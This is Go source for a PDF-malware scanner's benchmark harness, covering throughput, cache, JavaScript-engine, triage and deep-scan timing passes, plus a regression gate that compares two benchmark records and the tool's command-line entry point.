	if unique <= 0 {
		unique = 10
	}
	if docs < unique {
		docs = unique
	}
	rounds := docs / unique
	if rounds < 1 {
		rounds = 1
	}
	if workers <= 0 {
		workers = runtime.NumCPU()
	}
	corpusRounds, totalBytes := benchCorpusDocs(seed, unique, rounds)

	rec := benchRecord{
		Schema:     "pdfshield-bench/5",
		Timestamp:  time.Now().UTC().Format(time.RFC3339),
		GoVersion:  runtime.Version(),
		GOOS:       runtime.GOOS,
		GOARCH:     runtime.GOARCH,
		NumCPU:     runtime.NumCPU(),
		GoMaxProcs: runtime.GOMAXPROCS(0),
		Seed:       seed,
		Corpus: benchCorpus{
			Docs:       unique * rounds,
			Unique:     unique,
			Rounds:     rounds,
			TotalBytes: totalBytes,
		},
	}

	fmt.Printf("json bench: %d docs (%d unique × %d rounds, %.1f MB), workers %d\n",
		rec.Corpus.Docs, unique, rounds, float64(totalBytes)/(1<<20), workers)

	var phases benchPhases
	var err error
	rec.SerialUncached, phases, err = runUncached(corpusRounds, 1, seed, depth)
	if err != nil {
		return fmt.Errorf("serial uncached pass: %w", err)
	}
	rec.Phases = phases
	fmt.Printf("  serial uncached:   %.2f docs/sec\n", rec.SerialUncached.DocsPerSec)

	rec.ParallelUncached, _, err = runUncached(corpusRounds, workers, seed, depth)
	if err != nil {
		return fmt.Errorf("parallel uncached pass: %w", err)
	}
	fmt.Printf("  parallel uncached: %.2f docs/sec (workers %d)\n", rec.ParallelUncached.DocsPerSec, workers)

	var stats cache.Stats
	rec.ParallelCached, stats, err = runCached(corpusRounds, workers, seed, depth, cacheCfg)
	if err != nil {
		return fmt.Errorf("cached pass: %w", err)
	}
	rec.Cache = stats
	rec.CacheHitRate = stats.HitRate()
	fmt.Printf("  parallel cached:   %.2f docs/sec (%.0f%% hit rate)\n",
		rec.ParallelCached.DocsPerSec, rec.CacheHitRate*100)

	if rec.ParallelUncached.DocsPerSec > 0 {
		rec.CacheSpeedup = rec.ParallelCached.DocsPerSec / rec.ParallelUncached.DocsPerSec
	}
	if rec.SerialUncached.DocsPerSec > 0 {
		rec.ParallelSpeedup = rec.ParallelUncached.DocsPerSec / rec.SerialUncached.DocsPerSec
	}
	fmt.Printf("  cache speedup:     %.1fx\n", rec.CacheSpeedup)

	// Sanity cross-check: caching must not change what gets convicted.
	if rec.ParallelCached.Malicious != rec.ParallelUncached.Malicious {
		return fmt.Errorf("verdict divergence: cached pass convicted %d, uncached %d",
			rec.ParallelCached.Malicious, rec.ParallelUncached.Malicious)
	}

	rec.Open, err = runOpenBench(seed, openBenchDocCount, openBenchReps)
	if err != nil {
		return fmt.Errorf("open-phase bench: %w", err)
	}
	fmt.Printf("  open p50 (µs):     tree %.0f / bytecode cold %.0f / bytecode warm %.0f (%.2fx, %.0f%% unit hits)\n",
		rec.Open.TreeWalk.P50Us, rec.Open.BytecodeCold.P50Us, rec.Open.BytecodeWarm.P50Us,
		rec.Open.WarmSpeedup, rec.Open.UnitHitRate*100)

	rec.JSEngine, err = runJSEngineBench()
	if err != nil {
		return fmt.Errorf("js-engine bench: %w", err)
	}
	for _, w := range rec.JSEngine {
		fmt.Printf("  js %-18s tree %8.1fµs / bytecode %8.1fµs (%.2fx)\n", w.Name+":", w.TreeUs, w.VMUs, w.Speedup)
	}

	rec.Triage, err = runTriageBench(seed)
	if err != nil {
		return fmt.Errorf("triage bench: %w", err)
	}
	fmt.Printf("  triage:            %.1f → %.1f docs/sec (%.1fx) over %d docs\n",
		rec.Triage.Off.DocsPerSec, rec.Triage.On.DocsPerSec, rec.Triage.Speedup, rec.Triage.Docs)
	for _, r := range rec.Triage.Routes {
		fmt.Printf("  triage route %-12s %3d docs, p50 %8.1fµs\n", r.Route+":", r.Docs, r.P50Us)
	}

	rec.DeepScan, err = runDeepScanBench(seed)
	if err != nil {
		return fmt.Errorf("deep-scan bench: %w", err)
	}
	fmt.Printf("  deepscan:          %d/%d detected standard → %d/%d deep, p50 %.0f → %.0fµs (%.1fx)\n",
		rec.DeepScan.DetectedStandard, rec.DeepScan.Docs, rec.DeepScan.DetectedDeep, rec.DeepScan.Docs,
		rec.DeepScan.StandardP50Us, rec.DeepScan.DeepP50Us, rec.DeepScan.CostRatio)

	data, err := json.MarshalIndent(rec, "", "  ")
	if err != nil {
		return err
	}
	data = append(data, '\n')
	if err := os.WriteFile(path, data, 0o644); err != nil {
		return err
	}
	fmt.Printf("  wrote %s\n", path)
	return nil
}
