package main

// Open-phase and script-engine sections of the -json benchmark, plus the
// -compare regression gate. The batch/cache sections time the scriptless
// front-end; everything here times what the bytecode engine changed: the
// reader-side open of Javascript-bearing documents, under both engines,
// and the script engine itself on isolated workloads where the
// parse-versus-execute split is controlled.

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"strings"
	"time"

	"pdfshield/internal/corpus"
	"pdfshield/internal/instrument"
	"pdfshield/internal/js"
	"pdfshield/internal/obs"
	"pdfshield/internal/pipeline"
	"pdfshield/internal/reader"
	"pdfshield/internal/serve"
)

// Open-phase workload size: enough distinct documents that the unit cache
// holds a realistic working set, enough reps that p50 is stable.
const (
	openBenchDocCount = 12
	openBenchReps     = 9
)

// benchOpenPass summarizes per-open wall-clock over one engine config.
type benchOpenPass struct {
	Opens    int     `json:"opens"`
	P50Us    float64 `json:"p50_us"`
	P90Us    float64 `json:"p90_us"`
	TotalSec float64 `json:"total_sec"`
}

// benchOpenPhase is the document-open benchmark: the same instrumented
// JS-bearing corpus opened under the tree-walking engine (the only engine
// prior records had), the bytecode engine with a purged unit cache (every
// open pays compilation), and the bytecode engine with the unit cache as
// instrumentation left it (the deployed configuration: every open hits).
type benchOpenPhase struct {
	Docs         int               `json:"docs"`
	RepsPerPass  int               `json:"reps_per_pass"`
	TreeWalk     benchOpenPass     `json:"tree_walk"`
	BytecodeCold benchOpenPass     `json:"bytecode_cold"`
	BytecodeWarm benchOpenPass     `json:"bytecode_warm"`
	WarmSpeedup  float64           `json:"warm_speedup_vs_tree"` // tree p50 / warm p50
	Units        js.UnitCacheStats `json:"js_units"`             // cumulative, after the warm pass
	// UnitHitRate covers the warm pass alone (stats delta across it): the
	// deployed steady state, where instrument-time warming means opens
	// never compile. The cold pass's deliberate misses are excluded.
	UnitHitRate float64 `json:"js_unit_hit_rate"`
}

// benchJSWorkload is one script-engine microbenchmark: a single source run
// to completion on a fresh interpreter per iteration, so the tree engine
// pays parse+walk every run and the bytecode engine pays one shared
// compile (unit-cache hit) plus dispatch.
type benchJSWorkload struct {
	Name    string  `json:"name"`
	TreeUs  float64 `json:"tree_walk_us_per_run"`
	VMUs    float64 `json:"bytecode_us_per_run"`
	Speedup float64 `json:"speedup"`
}

func pctUS(durs []time.Duration, q float64) float64 {
	s := append([]time.Duration(nil), durs...)
	sort.Slice(s, func(i, j int) bool { return s[i] < s[j] })
	return float64(s[int(float64(len(s)-1)*q)]) / float64(time.Microsecond)
}

// openBenchDocs instruments a small interactive JS-bearing population —
// light carriers whose open cost is script handling, not carrier parse —
// warming `units` as a production instrument step would.
func openBenchDocs(seed int64, n int, units *js.UnitCache) ([]*instrument.Result, error) {
	g := corpus.NewGenerator(seed)
	sys, err := pipeline.NewSystem(pipeline.Options{ViewerVersion: 9.0, Seed: seed, Obs: obs.NewRegistry(), JSUnits: units})
	if err != nil {
		return nil, err
	}
	defer func() { _ = sys.Close() }()
	docs := make([]*instrument.Result, 0, n)
	for i := 0; i < n; i++ {
		s := g.BenignInteractiveJS()
		res, err := sys.Instrumenter.InstrumentBytes(s.ID, s.Raw)
		if err != nil {
			return nil, fmt.Errorf("instrument %s: %w", s.ID, err)
		}
		docs = append(docs, res)
	}
	return docs, nil
}

// runOpenPass opens every document reps times on one session (recycled
// between opens, as a scanning tier runs) and pools the per-open
// durations. purgeUnits empties the unit cache before each rep so every
// open compiles from scratch.
func runOpenPass(docs []*instrument.Result, units *js.UnitCache, seed int64, reps int, treeWalk, purgeUnits bool) (benchOpenPass, error) {
	var pass benchOpenPass
	sys, err := pipeline.NewSystem(pipeline.Options{
		ViewerVersion: 9.0, Seed: seed, Obs: obs.NewRegistry(),
		JSUnits: units, TreeWalkJS: treeWalk,
	})
	if err != nil {
		return pass, err
	}
	defer func() { _ = sys.Close() }()
	sess, err := sys.NewSession()
	if err != nil {
		return pass, err
	}
	defer sess.Close()

	durs := make([]time.Duration, 0, reps*len(docs))
	for rep := 0; rep < reps; rep++ {
		if purgeUnits {
			units.Purge()
		}
		for _, d := range docs {
			start := time.Now()
			if _, err := sess.Open(d, reader.OpenOptions{}); err != nil {
				return pass, fmt.Errorf("open %s: %w", d.DocID, err)
			}
			durs = append(durs, time.Since(start))
			sess.Recycle()
		}
	}
	pass.Opens = len(durs)
	pass.P50Us = pctUS(durs, 0.5)
	pass.P90Us = pctUS(durs, 0.9)
	for _, d := range durs {
		pass.TotalSec += d.Seconds()
	}
	return pass, nil
}

// runOpenBench measures the three engine configurations over one shared
// instrumented corpus. Pass order matters: the warm pass runs on the unit
// cache exactly as instrumentation left it (the deployed steady state —
// everything an open loads was precompiled at instrument time), so the
// cold pass and its purges run last.
func runOpenBench(seed int64, nDocs, reps int) (benchOpenPhase, error) {
	phase := benchOpenPhase{Docs: nDocs, RepsPerPass: reps}
	units := js.NewUnitCache(js.DefaultUnitCacheBytes)
	docs, err := openBenchDocs(seed, nDocs, units)
	if err != nil {
		return phase, err
	}

	if phase.TreeWalk, err = runOpenPass(docs, units, seed, reps, true, false); err != nil {
		return phase, fmt.Errorf("tree-walk pass: %w", err)
	}
	pre := units.Stats()
	if phase.BytecodeWarm, err = runOpenPass(docs, units, seed, reps, false, false); err != nil {
		return phase, fmt.Errorf("bytecode warm pass: %w", err)
	}
	warmStats := units.Stats()
	if phase.BytecodeCold, err = runOpenPass(docs, units, seed, reps, false, true); err != nil {
		return phase, fmt.Errorf("bytecode cold pass: %w", err)
	}
	if phase.BytecodeWarm.P50Us > 0 {
		phase.WarmSpeedup = phase.TreeWalk.P50Us / phase.BytecodeWarm.P50Us
	}
	phase.Units = units.Stats()
	hits := warmStats.Hits - pre.Hits
	misses := warmStats.Misses - pre.Misses
	if total := hits + misses; total > 0 {
		phase.UnitHitRate = float64(hits) / float64(total)
	}
	return phase, nil
}

// ---- script-engine microbenchmarks ----

// jsWorkloads isolates the engine from the document pipeline. Each source
// is run on a fresh interpreter per iteration: the tree engine re-parses
// and walks; the bytecode engine hits the shared unit cache and dispatches
// compiled code. "straightline" is parse-bound (where compilation wins),
// "form_script" is the corpus's typical benign shape, "decrypt_loop" is
// execution-bound host-call churn like the monitor prologue (where the
// engines are expected to tie — the win there comes from not re-parsing).
func jsWorkloads() []struct{ name, src string } {
	var b strings.Builder
	b.WriteString("var a0 = 1;\n")
	for i := 1; i < 4000; i++ {
		fmt.Fprintf(&b, "var a%d = a%d + %d;\n", i, i-1, i%7)
	}
	fmt.Fprintf(&b, "a%d;", 3999)
	straightline := b.String()

	form := `
var total = 0;
function validate(v) {
  if (v < 0) { return 0; }
  return v * 2 + 1;
}
for (var i = 0; i < 200; i++) {
  total = total + validate(i % 11);
}
total;`

	decrypt := `
var src = '';
for (var i = 0; i < 60; i++) { src = src + '6a60'; }
var out = '';
for (var j = 0; j < src.length; j = j + 2) {
  out = out + String.fromCharCode(parseInt(src.substr(j, 2), 16) ^ 3);
}
out.length;`

	return []struct{ name, src string }{
		{"straightline_4000", straightline},
		{"form_script", form},
		{"decrypt_loop", decrypt},
	}
}

const jsBenchIters = 60

// minUS returns the fastest run in microseconds — min-of-N, like the
// batch passes: these runs finish in microseconds, where GC and scheduler
// noise dominate anything but the best case, especially with GOMAXPROCS
// raised past the physical core count.
func minUS(durs []time.Duration) float64 {
	best := durs[0]
	for _, d := range durs[1:] {
		if d < best {
			best = d
		}
	}
	return float64(best) / float64(time.Microsecond)
}

// runJSEngineBench times each workload under both engines, reporting the
// fastest per-run time. A fresh interpreter per run keeps step budgets and
// globals identical across engines; only the unit cache persists.
func runJSEngineBench() ([]benchJSWorkload, error) {
	units := js.NewUnitCache(js.DefaultUnitCacheBytes)
	timeRuns := func(src string, treeWalk bool) ([]time.Duration, error) {
		durs := make([]time.Duration, 0, jsBenchIters)
		for i := 0; i < jsBenchIters; i++ {
			it := js.New()
			it.TreeWalk = treeWalk
			it.Units = units
			start := time.Now()
			if _, err := it.Run(src); err != nil {
				return nil, err
			}
			durs = append(durs, time.Since(start))
		}
		return durs, nil
	}
	var out []benchJSWorkload
	for _, w := range jsWorkloads() {
		units.Warm(w.src) // the deployed state: instrument time precompiled it
		tree, err := timeRuns(w.src, true)
		if err != nil {
			return nil, fmt.Errorf("workload %s (tree): %w", w.name, err)
		}
		vm, err := timeRuns(w.src, false)
		if err != nil {
			return nil, fmt.Errorf("workload %s (vm): %w", w.name, err)
		}
		wl := benchJSWorkload{
			Name:   w.name,
			TreeUs: minUS(tree),
			VMUs:   minUS(vm),
		}
		if wl.VMUs > 0 {
			wl.Speedup = wl.TreeUs / wl.VMUs
		}
		out = append(out, wl)
	}
	return out, nil
}

// ---- -compare: the bench-to-bench regression gate ----

// openP50Tolerance is the allowed open-phase p50 regression between two
// records before -compare fails the build.
const openP50Tolerance = 1.10

// docsPerSecTolerance is how far the new record's end-to-end throughput
// may fall below the old one's before -compare fails the build. The gate
// runs on the parallel-cached pass (the deployed configuration); 10% is
// loose enough for run-to-run noise under min-of-7 reps.
const docsPerSecTolerance = 0.90

// runCompare loads two benchmark records and fails (non-nil error) if the
// new record's warm open-phase p50 regressed more than 10% against the
// old one. Records from before the open-phase section existed (schema
// pdfshield-bench/1) carry no open data; the gate is skipped with a note
// so older baselines stay usable for the throughput columns.
func runCompare(oldPath, newPath string) error {
	load := func(path string) (benchRecord, error) {
		var rec benchRecord
		data, err := os.ReadFile(path)
		if err != nil {
			return rec, err
		}
		if err := json.Unmarshal(data, &rec); err != nil {
			return rec, fmt.Errorf("%s: %w", path, err)
		}
		return rec, nil
	}
	oldRec, err := load(oldPath)
	if err != nil {
		return err
	}
	newRec, err := load(newPath)
	if err != nil {
		return err
	}

	fmt.Printf("bench compare: %s (%s) -> %s (%s)\n", oldPath, oldRec.Schema, newPath, newRec.Schema)
	ratio := func(oldV, newV float64) string {
		if oldV <= 0 {
			return "n/a"
		}
		return fmt.Sprintf("%+.1f%%", (newV/oldV-1)*100)
	}
	switch {
	case oldRec.SerialUncached.Docs > 0 && newRec.SerialUncached.Docs == 0:
		fmt.Println("  batch sections: only the OLD record has them (serve-only NEW); skipped")
	case oldRec.SerialUncached.Docs == 0 && newRec.SerialUncached.Docs > 0:
		fmt.Println("  batch sections: only the NEW record has them (serve-only OLD); skipped")
	case oldRec.SerialUncached.Docs > 0 && newRec.SerialUncached.Docs > 0:
		fmt.Printf("  serial uncached:   %8.2f -> %8.2f docs/sec (%s)\n",
			oldRec.SerialUncached.DocsPerSec, newRec.SerialUncached.DocsPerSec,
			ratio(oldRec.SerialUncached.DocsPerSec, newRec.SerialUncached.DocsPerSec))
		fmt.Printf("  parallel uncached: %8.2f -> %8.2f docs/sec (%s)\n",
			oldRec.ParallelUncached.DocsPerSec, newRec.ParallelUncached.DocsPerSec,
			ratio(oldRec.ParallelUncached.DocsPerSec, newRec.ParallelUncached.DocsPerSec))
		fmt.Printf("  parallel cached:   %8.2f -> %8.2f docs/sec (%s)\n",
			oldRec.ParallelCached.DocsPerSec, newRec.ParallelCached.DocsPerSec,
			ratio(oldRec.ParallelCached.DocsPerSec, newRec.ParallelCached.DocsPerSec))
	}
	if oldRec.Serve != nil || newRec.Serve != nil {
		var o, n serve.LoadStats
		if oldRec.Serve != nil {
			o = *oldRec.Serve
		}
		if newRec.Serve != nil {
			n = *newRec.Serve
		}
		fmt.Printf("  serve throughput:  %8.2f -> %8.2f docs/sec (%s)\n", o.DocsPerSec, n.DocsPerSec, ratio(o.DocsPerSec, n.DocsPerSec))
		fmt.Printf("  serve p50:         %8.2f -> %8.2f ms (%s)\n", o.P50Ms, n.P50Ms, ratio(o.P50Ms, n.P50Ms))
		fmt.Printf("  serve p99:         %8.2f -> %8.2f ms (%s)\n", o.P99Ms, n.P99Ms, ratio(o.P99Ms, n.P99Ms))
		fmt.Printf("  serve rejection:   %7.1f%% -> %7.1f%%\n", o.RejectionRate*100, n.RejectionRate*100)
	}
	if oldRec.Triage != nil || newRec.Triage != nil {
		var o, n benchTriage
		if oldRec.Triage != nil {
			o = *oldRec.Triage
		}
		if newRec.Triage != nil {
			n = *newRec.Triage
		}
		switch {
		case oldRec.Triage == nil:
			fmt.Printf("  triage: %s predates the triage section (schema/4); %s routes %.1f -> %.1f docs/sec (%.1fx)\n",
				oldPath, newPath, n.Off.DocsPerSec, n.On.DocsPerSec, n.Speedup)
		case newRec.Triage == nil:
			fmt.Printf("  triage: only the OLD record has the section; skipped\n")
		default:
			fmt.Printf("  triage on:         %8.2f -> %8.2f docs/sec (%s)\n",
				o.On.DocsPerSec, n.On.DocsPerSec, ratio(o.On.DocsPerSec, n.On.DocsPerSec))
			fmt.Printf("  triage speedup:    %7.1fx -> %7.1fx\n", o.Speedup, n.Speedup)
		}
	}

	// Forced-execution gate: the deep-depth detection rate on the evasive
	// corpus must never decrease — coverage is the tier's whole point, so
	// a cheaper deep scan that misses a gated exploit is a regression, not
	// an optimization.
	if oldRec.DeepScan != nil || newRec.DeepScan != nil {
		switch {
		case oldRec.DeepScan == nil:
			fmt.Printf("  deepscan: %s predates the deep-scan section (schema/5); new deep rate %.0f%% at %.1fx cost\n",
				oldPath, newRec.DeepScan.DeepRate*100, newRec.DeepScan.CostRatio)
		case newRec.DeepScan == nil:
			fmt.Println("  deepscan: only the OLD record has the section; skipped")
		default:
			o, n := oldRec.DeepScan, newRec.DeepScan
			fmt.Printf("  deepscan detect:   %5.0f%% -> %5.0f%% deep (standard %.0f%% -> %.0f%%)\n",
				o.DeepRate*100, n.DeepRate*100, o.StandardRate*100, n.StandardRate*100)
			fmt.Printf("  deepscan cost:     %6.1fx -> %6.1fx p50 vs standard\n", o.CostRatio, n.CostRatio)
			if n.DeepRate < o.DeepRate {
				return fmt.Errorf("evasive detection regression: deep-depth rate %.0f%% -> %.0f%%",
					o.DeepRate*100, n.DeepRate*100)
			}
			fmt.Println("  OK: evasive detection rate did not decrease")
		}
	}

	// End-to-end throughput gate: only when both records carry batch
	// sections (schema/1 onward; serve-only records from -load have none).
	oldTput := oldRec.ParallelCached.DocsPerSec
	newTput := newRec.ParallelCached.DocsPerSec
	if oldTput > 0 && newTput > 0 {
		if newTput < oldTput*docsPerSecTolerance {
			return fmt.Errorf("throughput regression: parallel cached %.2f -> %.2f docs/sec (more than %.0f%% below baseline)",
				oldTput, newTput, (1-docsPerSecTolerance)*100)
		}
		fmt.Println("  OK: no end-to-end docs/sec regression beyond tolerance")
	}

	oldP50 := oldRec.Open.BytecodeWarm.P50Us
	newP50 := newRec.Open.BytecodeWarm.P50Us
	switch {
	case newP50 <= 0 && newRec.Serve != nil:
		// A serve-only record (pdfshield-serve -load) measures the daemon,
		// not the open phase; the open gate does not apply.
		fmt.Printf("  open p50: %s is a serve capacity record; open-phase gate skipped\n", newPath)
		fmt.Println("  OK: serve record compared (no open-phase gate)")
		return nil
	case newP50 <= 0:
		return fmt.Errorf("%s has no open-phase data; cannot gate", newPath)
	case oldP50 <= 0:
		fmt.Printf("  open p50: %s predates the open-phase section; gate skipped (new warm p50 %.0fµs)\n",
			oldPath, newP50)
	default:
		fmt.Printf("  open p50 (warm):   %8.0f -> %8.0f µs (%s)\n", oldP50, newP50, ratio(oldP50, newP50))
		if newP50 > oldP50*openP50Tolerance {
			return fmt.Errorf("open-phase p50 regression: %.0fµs -> %.0fµs (>%.0f%% over baseline)",
				oldP50, newP50, (openP50Tolerance-1)*100)
		}
	}
	fmt.Println("  OK: no open-phase p50 regression beyond tolerance")
	return nil
}
