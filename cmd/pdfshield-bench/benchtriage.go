package main

// Triage section of the -json benchmark (schema pdfshield-bench/4): the
// same mixed, majority-confident-benign corpus is run end to end through
// the full pipeline twice — triage off (every document opens in a reader)
// and triage on (confident documents route around the sandbox) — and the
// routing split, per-route latency and throughput ratio are recorded.
// The pass double-checks the tier's safety contract while measuring it:
// no malicious-labelled document may route confident-benign, and no
// document convicted by the dynamic tier may lose its conviction.

import (
	"context"
	"fmt"
	"sort"
	"time"

	"pdfshield/internal/corpus"
	"pdfshield/internal/obs"
	"pdfshield/internal/pipeline"
	"pdfshield/internal/triage"
)

// benchTriage is the committed triage section.
type benchTriage struct {
	// Docs / BenignJS / MaliciousDocs describe the mixed corpus: benign
	// JS-bearing carriers (the confident-benign majority a scanning tier
	// sees) plus a malicious minority.
	Docs          int `json:"docs"`
	BenignJS      int `json:"benign_js"`
	MaliciousDocs int `json:"malicious_docs"`
	// Off and On are the end-to-end serial passes without and with the
	// static triage tier (fastest of benchTriageReps).
	Off benchTriagePass `json:"off"`
	On  benchTriagePass `json:"on"`
	// Routes is the triage-on pass's routing split with per-route p50
	// end-to-end latency.
	Routes []benchTriageRoute `json:"routes"`
	// Speedup is On vs Off end-to-end throughput.
	Speedup float64 `json:"speedup"`
	// MaliciousRoutedBenign counts malicious-labelled documents that took
	// the fast path; anything but zero fails the benchmark.
	MaliciousRoutedBenign int `json:"malicious_routed_benign"`
}

// benchTriagePass summarizes one end-to-end serial pass.
type benchTriagePass struct {
	Docs       int     `json:"docs"`
	Failed     int     `json:"failed"`
	Malicious  int     `json:"malicious"`
	Seconds    float64 `json:"seconds"`
	DocsPerSec float64 `json:"docs_per_sec"`
}

// benchTriageRoute is one route's share of the triage-on pass.
type benchTriageRoute struct {
	Route string  `json:"route"`
	Docs  int     `json:"docs"`
	P50Us float64 `json:"p50_us"`
}

// triageDocOutcome is one document's result within a pass.
type triageDocOutcome struct {
	route     string
	malicious bool
	dur       time.Duration
}

// benchTriageReps mirrors the batch passes' min-of-N discipline; the
// fastest rep is recorded for both configurations.
const benchTriageReps = 5

// benchTriageCorpus builds the mixed population: a confident-benign
// majority of JS-bearing carriers (forms, navigation, multi-script — with
// the usual encrypted/SOAP uncertain tail) plus a malicious minority
// drawn from the family mix. Returns the docs and the malicious ID set.
func benchTriageCorpus(seed int64) ([]pipeline.BatchDoc, map[string]bool, int) {
	g := corpus.NewGenerator(seed)
	var docs []pipeline.BatchDoc
	benignJS := 0
	for _, s := range g.BenignWithJS(40) {
		docs = append(docs, pipeline.BatchDoc{ID: s.ID, Raw: s.Raw})
		benignJS++
	}
	malicious := make(map[string]bool)
	for _, s := range g.MaliciousBatch(8) {
		docs = append(docs, pipeline.BatchDoc{ID: s.ID, Raw: s.Raw})
		malicious[s.ID] = true
	}
	return docs, malicious, benignJS
}

// runTriagePass processes the corpus serially end to end (each document
// pays its full pipeline cost, including the reader session unless triage
// routes around it) and returns the pass summary plus per-document
// outcomes.
func runTriagePass(docs []pipeline.BatchDoc, seed int64, cfg *triage.Config) (benchTriagePass, map[string]triageDocOutcome, error) {
	var pass benchTriagePass
	sys, err := pipeline.NewSystem(pipeline.Options{
		ViewerVersion: 9.0, Seed: seed, Obs: obs.NewRegistry(), Triage: cfg,
	})
	if err != nil {
		return pass, nil, err
	}
	defer func() { _ = sys.Close() }()

	out := make(map[string]triageDocOutcome, len(docs))
	start := time.Now()
	for _, d := range docs {
		t0 := time.Now()
		v, err := sys.ProcessDocumentContext(context.Background(), d.ID, d.Raw)
		dur := time.Since(t0)
		pass.Docs++
		if err != nil {
			pass.Failed++
			continue
		}
		if v.Malicious {
			pass.Malicious++
		}
		out[d.ID] = triageDocOutcome{route: v.TriageRoute, malicious: v.Malicious, dur: dur}
	}
	pass.Seconds = time.Since(start).Seconds()
	pass.DocsPerSec = float64(pass.Docs) / pass.Seconds
	return pass, out, nil
}

// runTriageBench measures the tier: both configurations over the same
// corpus, fastest of benchTriageReps each, with the safety cross-checks
// on the triage-on outcomes.
func runTriageBench(seed int64) (*benchTriage, error) {
	docs, malicious, benignJS := benchTriageCorpus(seed)
	sec := &benchTriage{Docs: len(docs), BenignJS: benignJS, MaliciousDocs: len(malicious)}

	var offOutcomes, onOutcomes map[string]triageDocOutcome
	for rep := 0; rep < benchTriageReps; rep++ {
		off, offOut, err := runTriagePass(docs, seed, nil)
		if err != nil {
			return nil, fmt.Errorf("triage-off pass: %w", err)
		}
		on, onOut, err := runTriagePass(docs, seed, &triage.Config{})
		if err != nil {
			return nil, fmt.Errorf("triage-on pass: %w", err)
		}
		if rep == 0 || off.Seconds < sec.Off.Seconds {
			sec.Off = off
			offOutcomes = offOut
		}
		if rep == 0 || on.Seconds < sec.On.Seconds {
			sec.On = on
			onOutcomes = onOut
		}
	}
	if sec.Off.Failed > 0 || sec.On.Failed > 0 {
		return nil, fmt.Errorf("triage bench failures: off %d, on %d", sec.Off.Failed, sec.On.Failed)
	}
	if sec.Off.DocsPerSec > 0 {
		sec.Speedup = sec.On.DocsPerSec / sec.Off.DocsPerSec
	}

	// Safety cross-checks: the fast path must never carry a malicious-
	// labelled document, and the tier must never lose a dynamic conviction
	// (it may add static ones — version-gated samples that do nothing when
	// opened still carry their exploit statically).
	byRoute := make(map[string][]time.Duration)
	for id, o := range onOutcomes {
		byRoute[o.route] = append(byRoute[o.route], o.dur)
		if malicious[id] && o.route == string(triage.RouteBenign) {
			sec.MaliciousRoutedBenign++
		}
		if off, ok := offOutcomes[id]; ok && off.malicious && !o.malicious {
			return nil, fmt.Errorf("triage dropped a conviction: %s (route %s)", id, o.route)
		}
	}
	if sec.MaliciousRoutedBenign > 0 {
		return nil, fmt.Errorf("%d malicious documents routed confident-benign", sec.MaliciousRoutedBenign)
	}
	for _, route := range []string{"benign", "malicious", "uncertain", ""} {
		durs := byRoute[route]
		if len(durs) == 0 {
			continue
		}
		sort.Slice(durs, func(i, j int) bool { return durs[i] < durs[j] })
		name := route
		if name == "" {
			name = "(no-triage)"
		}
		sec.Routes = append(sec.Routes, benchTriageRoute{
			Route: name,
			Docs:  len(durs),
			P50Us: float64(durs[len(durs)/2]) / float64(time.Microsecond),
		})
	}
	return sec, nil
}
