// Command pdfshield-bench regenerates every table and figure of the
// paper's evaluation section on the synthetic corpus and prints them in
// paper order. Use -scale 1.0 for paper-size corpora (994 benign-with-JS /
// 1000 malicious in Table VIII; slower) or the default 0.1 for a quick
// pass.
//
// Usage:
//
//	pdfshield-bench [-scale 0.1] [-seed 20140623] [-only table-viii]
//	                [-out results.txt] [-list] [-workers N]
//
// -workers widens the batch engine's worker pool for the corpus passes that
// run documents through the full pipeline (Table VIII, Table IX's mimicry
// pass, Figure 6's analysis sweep, the ablations). Verdicts are identical at
// any width; only wall-clock changes.
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"time"

	"pdfshield/internal/experiments"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "pdfshield-bench:", err)
		os.Exit(1)
	}
}

func run() error {
	scale := flag.Float64("scale", 0.1, "corpus scale relative to the paper (1.0 = full)")
	seed := flag.Int64("seed", 0, "experiment seed (0 = built-in default)")
	only := flag.String("only", "", "run a single experiment by id")
	outPath := flag.String("out", "", "also write rendered results to this file")
	list := flag.Bool("list", false, "list experiment ids and exit")
	workers := flag.Int("workers", 1, "worker-pool width for pipeline corpus passes (1 = serial, matching the paper; try runtime.NumCPU())")
	flag.Parse()

	if *list {
		for _, exp := range experiments.All() {
			fmt.Println(exp.ID)
		}
		return nil
	}

	cfg := experiments.Config{Scale: *scale, Seed: *seed, Workers: *workers}
	var w io.Writer = os.Stdout
	var file *os.File
	if *outPath != "" {
		var err error
		file, err = os.Create(*outPath)
		if err != nil {
			return err
		}
		defer func() { _ = file.Close() }()
		w = io.MultiWriter(os.Stdout, file)
	}

	fmt.Fprintf(w, "pdfshield evaluation harness — scale %.2f, seed %d, workers %d\n", *scale, *seed, *workers)
	fmt.Fprintf(w, "started %s\n\n", time.Now().Format(time.RFC3339))

	if *only != "" {
		for _, exp := range experiments.All() {
			if exp.ID != *only {
				continue
			}
			start := time.Now()
			res := exp.Run(cfg)
			fmt.Fprintf(w, "%s\n[%s finished in %.1fs]\n", res.Render(), exp.ID, time.Since(start).Seconds())
			return nil
		}
		return fmt.Errorf("unknown experiment %q (see -list)", *only)
	}

	experiments.RunAll(cfg, w)
	return nil
}
