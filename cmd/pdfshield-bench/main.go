// Command pdfshield-bench regenerates every table and figure of the
// paper's evaluation section on the synthetic corpus and prints them in
// paper order. Use -scale 1.0 for paper-size corpora (994 benign-with-JS /
// 1000 malicious in Table VIII; slower) or the default 0.1 for a quick
// pass.
//
// Usage:
//
//	pdfshield-bench [-scale 0.1] [-seed 20140623] [-only table-viii]
//	                [-out results.txt] [-list] [-workers N]
//	                [-json bench.json] [-depth static|standard|deep|auto]
//	                [-bench-docs 50] [-bench-unique 10]
//	                [-cache-entries N] [-cache-bytes N] [-cache-ttl d]
//	                [-cpuprofile cpu.pprof] [-memprofile mem.pprof]
//	                [-metrics-addr host:port]
//	pdfshield-bench -compare OLD.json NEW.json
//
// -metrics-addr serves live counters and phase-latency histograms in
// Prometheus text format on /metrics (expvar JSON on /debug/vars) while
// the run is in flight — point a scrape or curl at it to watch a long
// corpus pass progress.
//
// -workers widens the batch engine's worker pool for the corpus passes that
// run documents through the full pipeline (Table VIII, Table IX's mimicry
// pass, Figure 6's analysis sweep, the ablations). Verdicts are identical at
// any width; only wall-clock changes.
//
// -json switches to the machine-readable batch benchmark instead of the
// experiment suite: a duplicate-heavy corpus (-bench-docs documents over
// -bench-unique unique carriers) is processed serial-uncached,
// parallel-uncached and parallel-cached, and the docs/sec, cache hit rate
// and per-phase front-end timings are written as one JSON record
// (committed as BENCH_pr<N>.json to track the perf trajectory across PRs).
// The -cache-* flags bound the cached pass's front-end cache.
//
